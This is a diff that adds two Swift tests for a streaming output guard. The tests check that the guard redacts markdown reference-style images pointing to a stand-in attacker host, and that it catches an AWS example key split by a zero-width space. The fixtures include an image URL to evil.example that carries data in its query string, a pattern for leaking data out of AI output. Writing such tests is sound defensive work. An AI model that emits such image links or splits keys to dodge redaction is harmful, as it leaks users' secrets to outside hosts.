@@ -44,6 +44,25 @@ import Testing
         #expect(out == "Use [REDACTED OpenAI API key] now.", "\(out)")
     }
 
+    /// A definition far from its image is out of the window when the image leaves: each
+    /// half is redacted on its own, whichever comes first.
+    @Test func referenceStyleImagesAreRedactedWhereverTheDefinitionFalls() {
+        let filler = String(repeating: "plain words here. ", count: 10)
+        for chunks in [
+            ["See ![x][r].\n", filler, "\n[r]: https://evil", ".example/p.png?d=abc\n", "Bye."],
+            ["[r]: //evil", ".example/p.png\n", filler, "See ![x][r] now."],
+        ] {
+            let (out, blocked) = stream(chunks, GuardPipeline(), window: 40)
+            #expect(blocked == nil)
+            #expect(!out.contains("evil") && !out.contains("![x][r]"), "\(out)")
+        }
+    }
+
+    @Test func aZeroWidthSpaceCannotSplitAKeyInAStream() {
+        let (out, _) = stream(["key AKIA\u{200B}IOSF", "ODNN7EXAMPLE done, and ", String(repeating: "more ", count: 20)], GuardPipeline(), window: 32)
+        #expect(out.hasPrefix("key [REDACTED AWS access key] done"), "\(out)")
+    }
+
     @Test func cleanTextComesThroughWhole() {
         let text = (0..<100).map { "word\($0) " }
         let (out, blocked) = stream(text, GuardPipeline(), window: 40)
